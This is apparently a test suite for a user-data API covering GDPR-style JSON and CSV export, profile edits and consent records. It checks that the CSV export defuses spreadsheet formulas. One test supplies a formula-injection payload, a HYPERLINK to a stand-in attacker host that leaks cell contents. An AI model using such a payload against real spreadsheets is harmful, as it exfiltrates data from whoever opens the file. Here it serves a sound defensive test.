import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { App } from '../../src/app.js';
import { dataExportCsv, neutralizeFormula } from '../../src/modules/data-subject/csv.js';
import type { DataExport } from '../../src/modules/data-subject/data-subject.service.js';
import { closeAfterEach } from '../helpers/app.js';
import { PASSWORD, TestClock, call, servicePrincipalToken } from '../helpers/auth.js';
import { startTestClient } from '../helpers/client.js';

const closing = closeAfterEach();

const AGENT = 'data-subject-test/1.0';
const headers = { 'User-Agent': AGENT };

async function setUp() {
  const clock = new TestClock();
  const { app, as } = closing(await startTestClient({}, { now: clock.now }));
  const alice = await as('alice', { headers });
  return {
    app,
    clock,
    alice,
    token: alice.token,
    refreshToken: alice.login.refresh_token as string,
    bob: (await as('bob', { headers })).token,
  };
}

const me = (path = '') => `/api/v1/users/me${path}`;
const at = (clock: TestClock) => new Date(clock.ms).toISOString();

async function download(app: App, token: string, query: string) {
  const res = await fetch(`${app.url('main')}${me('/export')}${query}`, {
    headers: { Authorization: `Bearer ${token}` },
  });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

/** Reads the CSV export back into a DataExport, knowing which fields are not text. */
function fromCsv(text: string): DataExport {
  const rows = parse<{ section: string; record: string; field: string; value: string }>(text, { columns: true });
  const typed = (field: string, cell: string): unknown => {
    const value = /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
    if (value === '') return null;
    if (field === 'granted') return value === 'true';
    if (field === 'message_count') return Number(value);
    if (field === 'preferences') return JSON.parse(value) as unknown;
    return value;
  };
  const out: Record<string, unknown> = {
    sessions: [],
    conversations: [],
    playground_sessions: [],
    workflows: [],
    oauth_grants: [],
    mcp_tasks: [],
    mcp_connections: [],
    consents: [],
    audit_log: [],
  };
  for (const { section, record, field, value } of rows) {
    if (section === 'export') out[field] = typed(field, value);
    else if (section === 'profile') out.profile = { ...(out.profile as object), [field]: typed(field, value) };
    else {
      const list = out[section] as Record<string, unknown>[];
      (list[Number(record) - 1] ??= {})[field] = typed(field, value);
    }
  }
  return out as unknown as DataExport;
}

describe('GET /api/v1/users/me/data', () => {
  it('reports the profile, sessions, conversations, consents and audit log of the caller only', async () => {
    const { app, clock, alice, token, bob } = await setUp();
    clock.advance(1_000);
    await call(app, 'POST', me('/consent'), { token, headers, body: { consent_type: 'analytics', granted: true } });
    await call(app, 'POST', '/mcp/message', { token, body: { query: 'Hello' } });
    await call(app, 'POST', me('/consent'), { token: bob, body: { consent_type: 'marketing', granted: true } });

    const res = await call(app, 'GET', me('/data'), { token });
    expect(res.status).toBe(200);
    const conversation = (await app.services.conversations.allOwnedBy(`user:${alice.id}`))[0]!;
    const session = (await app.services.auth.auth.listSessions(alice.id))[0]!;
    expect(res.body).toEqual({
      export_id: expect.stringMatching(/^[0-9a-f-]{36}$/) as unknown,
      user_id: alice.id,
      username: 'alice',
      email: 'alice@example.com',
      export_timestamp: at(clock),
      profile: {
        user_id: alice.id,
        username: 'alice',
        email: 'alice@example.com',
        name: null,
        created_at: alice.user.createdAt,
        preferences: {},
      },
      sessions: [
        {
          session_id: session.id,
          created_at: new Date(session.createdAt).toISOString(),
          last_accessed: expect.any(String) as unknown,
          ip_address: '127.0.0.1',
        },
      ],
      conversations: [
        {
          conversation_id: conversation.id,
          created_at: at(clock),
          message_count: conversation.messageCount,
          last_message_at: at(clock),
        },
      ],
      playground_sessions: [],
      workflows: [],
      oauth_grants: [],
      mcp_tasks: [],
      mcp_connections: [],
      consents: [
        {
          consent_id: expect.any(String) as unknown,
          consent_type: 'analytics',
          granted: true,
          timestamp: at(clock),
          ip_address: '127.0.0.1',
        },
      ],
      audit_log: [
        {
          event_id: expect.any(String) as unknown,
          event_type: 'login.succeeded',
          timestamp: alice.user.createdAt,
          ip_address: '127.0.0.1',
        },
        {
          event_id: expect.any(String) as unknown,
          event_type: 'consent.changed',
          timestamp: at(clock),
          ip_address: '127.0.0.1',
        },
      ],
    });
    expect(conversation.messageCount).toBeGreaterThan(0);
  });

  it('answers 401 {detail} without credentials and 403 {detail} for a service principal', async () => {
    const { app, token } = await setUp();
    expect(await call(app, 'GET', me('/data'))).toMatchObject({
      status: 401,
      body: { detail: 'Authentication required' },
    });
    const robot = await servicePrincipalToken(app, token, 'Robot');
    const res = await call(app, 'GET', me('/data'), { token: robot });
    expect(res).toMatchObject({ status: 403, body: { detail: 'Data-subject rights belong to users' } });
  });
});

describe('GET /api/v1/users/me/export', () => {
  it('downloads JSON and CSV files holding exactly what /me/data reports', async () => {
    const { app, clock, token } = await setUp();
    await call(app, 'PATCH', me(), {
      token,
      body: { name: 'Alice, "the" Admin', preferences: { theme: 'dark', nested: { list: [1, 'two'] } } },
    });
    await call(app, 'POST', me('/consent'), { token, body: { consent_type: 'profiling', granted: false } });
    await call(app, 'POST', '/mcp/message', { token, body: { query: 'Hi' } });

    const withoutId = ({ export_id: _, ...rest }: DataExport) => rest;
    const viewed = (await call(app, 'GET', me('/data'), { token })).body as unknown as DataExport;
    const csv = await download(app, token, '?format=csv');
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="data-export-20260601T120000Z.csv"');
    expect(csv.headers.get('cache-control')).toBe('no-store');
    expect(csv.text.startsWith('section,record,field,value\r\n')).toBe(true);
    expect(withoutId(fromCsv(csv.text))).toEqual(withoutId(viewed));

    // The download was recorded, so the log has grown by one; the next file matches the view of that moment.
    clock.advance(1_000);
    const viewedAgain = (await call(app, 'GET', me('/data'), { token })).body as unknown as DataExport;
    expect(viewedAgain.audit_log.at(-1)).toMatchObject({ event_type: 'data.exported' });
    const json = await download(app, token, '');
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(json.headers.get('content-disposition')).toBe('attachment; filename="data-export-20260601T120001Z.json"');
    expect(withoutId(JSON.parse(json.text) as DataExport)).toEqual(withoutId(viewedAgain));
  });

  it('never exports secrets', async () => {
    const { app, token, refreshToken } = await setUp();
    const key = (await call(app, 'POST', '/api/v1/api-keys', { token, body: { name: 'k' } })).body.api_key as string;
    for (const format of ['json', 'csv']) {
      const { text } = await download(app, token, `?format=${format}`);
      for (const secret of [PASSWORD, token, refreshToken, key, 'argon2']) expect(text).not.toContain(secret);
    }
  });

  it('keeps spreadsheet formulas inert in the CSV', async () => {
    const { app, token } = await setUp();
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    expect((await call(app, 'PATCH', me(), { token, body: { name } })).status).toBe(200);
    const { text } = await download(app, token, '?format=csv');
    expect(text).toContain(`profile,1,name,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n`);
  });

  it('refuses any other format with 422 and the field issue', async () => {
    const { app, token } = await setUp();
    for (const format of ['xml', 'JSON', '']) {
      const res = await call(app, 'GET', me(`/export?format=${format}`), { token });
      expect(res.status).toBe(422);
      expect(res.body).toEqual({
        detail: [
          { loc: ['query', 'format'], msg: 'Invalid option: expected one of "json"|"csv"', type: 'invalid_value' },
        ],
      });
    }
    expect((await call(app, 'GET', me('/export'))).status).toBe(401);
  });
});

describe('CSV of an export', () => {
  it('quotes what needs quoting and neutralises every formula-like cell', () => {
    const tricky = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'a,b', 'say "hi"', 'two\nlines', 'plain'];
    expect(tricky.map(neutralizeFormula)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'a,b',
      'say "hi"',
      'two\nlines',
      'plain',
    ]);
    const data: DataExport = {
      export_id: 'e',
      user_id: 'u',
      username: 'alice',
      email: null,
      export_timestamp: '2026-06-01T12:00:00.000Z',
      profile: {
        user_id: 'u',
        username: 'alice',
        email: null,
        name: 'a,b "c"\nd',
        created_at: '2026-06-01T12:00:00.000Z',
        preferences: { formula: '=cmd' },
      },
      sessions: [],
      conversations: [],
      playground_sessions: [],
      workflows: [],
      oauth_grants: [],
      mcp_tasks: [],
      mcp_connections: [],
      consents: [],
      audit_log: tricky.map((t, i) => ({ event_id: `${i}`, event_type: t, timestamp: 't', ip_address: null })),
    };
    const rows = parse(dataExportCsv(data));
    expect(rows[0]).toEqual(['section', 'record', 'field', 'value']);
    expect(rows).toContainEqual(['profile', '1', 'name', 'a,b "c"\nd']);
    expect(rows).toContainEqual(['profile', '1', 'preferences', '{"formula":"=cmd"}']);
    expect(rows).toContainEqual(['export', '1', 'email', '']);
    const types = rows.filter((r) => r[0] === 'audit_log' && r[2] === 'event_type').map((r) => r[3]);
    expect(types).toEqual(tricky.map(neutralizeFormula));
  });
});

describe('PATCH /api/v1/users/me', () => {
  it('updates name, email and preferences and answers with the stored profile', async () => {
    const { app, clock, alice, token } = await setUp();
    clock.advance(60_000);
    const res = await call(app, 'PATCH', me(), {
      token,
      body: { name: '  Alice Liddell ', email: 'alice@wonder.land', preferences: { theme: 'dark' } },
    });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      user_id: alice.id,
      username: 'alice',
      name: 'Alice Liddell',
      email: 'alice@wonder.land',
      preferences: { theme: 'dark' },
      updated_at: at(clock),
      storage_note: expect.stringContaining('database') as unknown,
    });
    // The new address is the login now, and unverified.
    const login = await call(app, 'POST', '/auth/login', {
      body: { username: 'alice@wonder.land', password: PASSWORD },
    });
    expect(login.status).toBe(200);
    expect((await call(app, 'GET', '/auth/me', { token })).body).toMatchObject({ email_verified: false });
    // Preferences are replaced; fields left out stay.
    const again = await call(app, 'PATCH', me(), { token, body: { preferences: { language: 'fr' } } });
    expect(again.body).toMatchObject({ name: 'Alice Liddell', preferences: { language: 'fr' } });
    const empty = await call(app, 'PATCH', me(), { token, body: {} });
    expect(empty).toMatchObject({ status: 200, body: { name: 'Alice Liddell', email: 'alice@wonder.land' } });
  });

  it('accepts a name of 1 to 100 characters, counting characters rather than bytes', async () => {
    const { app, token } = await setUp();
    for (const name of ['A', 'é'.repeat(100), '🙂'.repeat(100)]) {
      expect((await call(app, 'PATCH', me(), { token, body: { name } })).body.name).toBe(name);
    }
  });

  it('refuses invalid fields with 422 {detail: [{loc, msg, type}]} and changes nothing', async () => {
    const { app, token } = await setUp();
    await call(app, 'PATCH', me(), { token, body: { name: 'Before' } });
    const cases: [unknown, unknown][] = [
      [{ name: '   ' }, [{ loc: ['body', 'name'], msg: 'must not be empty', type: 'too_small' }]],
      [{ name: 'x'.repeat(101) }, [{ loc: ['body', 'name'], msg: 'must be at most 100 characters', type: 'custom' }]],
      [{ name: 'a\u0007b' }, [{ loc: ['body', 'name'], msg: 'must not contain control characters', type: 'custom' }]],
      [
        { name: 42 },
        [{ loc: ['body', 'name'], msg: 'Invalid input: expected string, received number', type: 'invalid_type' }],
      ],
      [
        { name: 'After', email: 'not-an-email' },
        [{ loc: ['body', 'email'], msg: 'Invalid email address', type: 'invalid_format' }],
      ],
      [
        { preferences: ['dark'] },
        [{ loc: ['body', 'preferences'], msg: 'Invalid input: expected record, received array', type: 'invalid_type' }],
      ],
      [
        { preferences: { blob: 'x'.repeat(17_000) } },
        [{ loc: ['body', 'preferences'], msg: 'must be at most 16384 bytes as JSON', type: 'custom' }],
      ],
      [{ username: 'mallory' }, [{ loc: ['body'], msg: 'Unrecognized key: "username"', type: 'unrecognized_keys' }]],
    ];
    for (const [body, detail] of cases) {
      const res = await call(app, 'PATCH', me(), { token, body });
      expect(res.status, JSON.stringify(body)).toBe(422);
      expect(res.body).toEqual({ detail });
    }
    // NUL is refused at the door, before the route reads the body: a 400 in the area's shape.
    const nul = await call(app, 'PATCH', me(), { token, body: { name: 'a\u0000b' } });
    expect(nul).toMatchObject({
      status: 400,
      body: { detail: 'Text in a request may not contain the NUL character (U+0000)' },
    });
    const profile = (await call(app, 'GET', me('/data'), { token })).body.profile;
    expect(profile).toMatchObject({ name: 'Before', username: 'alice', email: 'alice@example.com', preferences: {} });
  });

  it('refuses an email address another account uses with 409, changing nothing', async () => {
    const { app, token } = await setUp();
    const res = await call(app, 'PATCH', me(), {
      token,
      body: { name: 'Changed', email: 'BOB@example.com', preferences: { a: 1 } },
    });
    expect(res).toMatchObject({ status: 409, body: { detail: 'Email address is already in use' } });
    const profile = (await call(app, 'GET', me('/data'), { token })).body.profile;
    expect(profile).toMatchObject({ name: null, email: 'alice@example.com', preferences: {} });
  });

  it('answers 400 {detail} to a body that is not JSON', async () => {
    const { app, token } = await setUp();
    const res = await fetch(`${app.url('main')}${me()}`, {
      method: 'PATCH',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      body: '{"name":',
    });
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ detail: 'Request body is not valid JSON' });
  });
});

describe('consent', () => {
  it('records each decision with time, address and user agent, and reports the one in force per type', async () => {
    const { app, clock, alice, token } = await setUp();
    expect((await call(app, 'GET', me('/consent'), { token })).body).toEqual({ user_id: alice.id, consents: {} });

    const granted = await call(app, 'POST', me('/consent'), {
      token,
      headers,
      body: { consent_type: 'analytics', granted: true },
    });
    expect(granted.status).toBe(200);
    const grantedAt = at(clock);
    expect(granted.body).toEqual({
      user_id: alice.id,
      consents: { analytics: { granted: true, timestamp: grantedAt, ip_address: '127.0.0.1', user_agent: AGENT } },
    });
    clock.advance(1_000);
    await call(app, 'POST', me('/consent'), { token, body: { consent_type: 'marketing', granted: false } });
    // Same millisecond as the marketing decision: the later one still wins.
    await call(app, 'POST', me('/consent'), { token, body: { consent_type: 'marketing', granted: true } });
    await call(app, 'POST', me('/consent'), { token, body: { consent_type: 'third_party', granted: false } });
    await call(app, 'POST', me('/consent'), { token, body: { consent_type: 'profiling', granted: true } });

    const state = await call(app, 'GET', me('/consent'), { token });
    expect(state.body).toEqual({
      user_id: alice.id,
      consents: {
        analytics: { granted: true, timestamp: grantedAt, ip_address: '127.0.0.1', user_agent: AGENT },
        marketing: { granted: true, timestamp: at(clock), ip_address: '127.0.0.1', user_agent: 'node' },
        third_party: { granted: false, timestamp: at(clock), ip_address: '127.0.0.1', user_agent: 'node' },
        profiling: { granted: true, timestamp: at(clock), ip_address: '127.0.0.1', user_agent: 'node' },
      },
    });
    // The history keeps every decision, in order.
    const history = ((await call(app, 'GET', me('/data'), { token })).body as unknown as DataExport).consents;
    expect(history.map((c) => [c.consent_type, c.granted])).toEqual([
      ['analytics', true],
      ['marketing', false],
      ['marketing', true],
      ['third_party', false],
      ['profiling', true],
    ]);
  });

  it('refuses an unknown consent type or a missing field with 422, recording nothing', async () => {
    const { app, alice, token } = await setUp();
    const cases: [unknown, unknown][] = [
      [
        { consent_type: 'telepathy', granted: true },
        [
          {
            loc: ['body', 'consent_type'],
            msg: 'Invalid option: expected one of "analytics"|"marketing"|"third_party"|"profiling"',
            type: 'invalid_value',
          },
        ],
      ],
      [
        { consent_type: 'analytics' },
        [
          {
            loc: ['body', 'granted'],
            msg: 'Invalid input: expected boolean, received undefined',
            type: 'invalid_type',
          },
        ],
      ],
      [
        { consent_type: 'analytics', granted: 'yes' },
        [{ loc: ['body', 'granted'], msg: 'Invalid input: expected boolean, received string', type: 'invalid_type' }],
      ],
    ];
    for (const [body, detail] of cases) {
      const res = await call(app, 'POST', me('/consent'), { token, body });
      expect(res.status).toBe(422);
      expect(res.body).toEqual({ detail });
    }
    expect((await call(app, 'GET', me('/consent'), { token })).body).toEqual({ user_id: alice.id, consents: {} });
    expect((await call(app, 'GET', me('/consent'))).status).toBe(401);
    expect(
      (await call(app, 'POST', me('/consent'), { body: { consent_type: 'analytics', granted: true } })).status,
    ).toBe(401);
  });
});
